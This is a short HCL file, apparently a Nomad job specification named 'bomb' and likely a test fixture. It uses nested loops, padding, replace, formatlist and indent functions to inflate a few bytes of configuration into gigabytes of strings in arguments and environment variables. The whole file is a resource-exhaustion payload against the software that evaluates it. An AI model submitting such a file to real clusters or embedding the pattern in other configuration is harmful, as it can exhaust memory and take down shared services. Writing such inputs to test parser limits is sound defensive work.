# String and list growth: padding, join, replace, formatlist and indent
# turn a few bytes into gigabytes.
locals {
  pad  = format("%10000s", "")
  row  = join("", [for i in range(1000) : local.pad])
  sq   = replace(local.pad, " ", local.pad)
  fl   = formatlist("%9999s%9999s", range(1000), range(1000))
  ind  = indent(1000, replace(local.pad, " ", "\n"))
  rx   = regex_replace(local.pad, " ", "$0$0$0$0$0$0$0$0$0$0$0$0$0$0$0$0")
  grid = [for i in range(1000) : join(",", [for j in range(1000) : local.pad])]
  cat  = concat(local.grid, local.grid, local.grid, local.grid)
}

job "bomb" {
  group "g" {
    task "t" {
      driver = "exec"
      config {
        command = "/bin/sh"
        args = [
          local.row, local.sq, join("", local.fl), local.ind, local.rx,
          jsonencode(local.grid), jsonencode(local.cat),
          join(local.pad, [for i in range(1000) : join(local.pad, range(1000))]),
          "${local.pad}${local.pad}${local.pad}${local.pad}${local.pad}${local.pad}",
        ]
      }
      env {
        A = format("%10000s%10000s%10000s%10000s%10000s%10000s", "", "", "", "", "", "")
        B = join("", [for x in setproduct(range(100), range(100)) : local.pad])
        C = jsonencode(flatten([for i in range(1000) : [for j in range(1000) : j]]))
        D = "%{for i in range(1000)}${local.pad}%{endfor}"
      }
    }
  }
}
